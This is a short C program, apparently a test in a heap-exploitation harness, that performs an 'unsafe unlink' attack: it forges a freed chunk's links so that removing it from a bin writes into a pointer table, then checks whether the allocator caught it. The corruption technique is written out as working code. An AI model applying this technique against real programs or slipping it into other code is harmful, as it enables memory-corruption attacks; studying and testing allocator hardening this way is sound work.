/* Usage: unsafe_unlink SIZE data|heap|self
   A table of pointers names a chunk twice. The chunk lies in a bin, and its
   links lead to the table, where both neighbours seem to point back: taking it
   out of the bin would write into the table. */
#include "attack.h"

int main(int argc, char **argv)
{
    size_t n = size_arg(argv);
    void *wall = take(n);
    unsigned char *victim = take_raw(n);
    take(n);
    struct target *t = is(argv, "data") ? &in_data : enter(malloc(sizeof *t), sizeof *t, 0);
    /* Each link is a multiple of 16: forward to words[0], backward to words[2]. */
    if (is(argv, "data") || is(argv, "heap"))
        t->words[1] = t->words[2] = address(victim);
    watch(0, t);
    to_bin(victim);
    if (is(argv, "self"))
        links(victim)[0] = links(victim)[1] = address(victim);
    else {
        links(victim)[0] = address(&t->words[0]);
        links(victim)[1] = address(&t->words[2]);
    }
    take(n);
    check_targets(); /* at once: later checks would stop a process that was already lost */
    drop(wall);
    return settle();
}
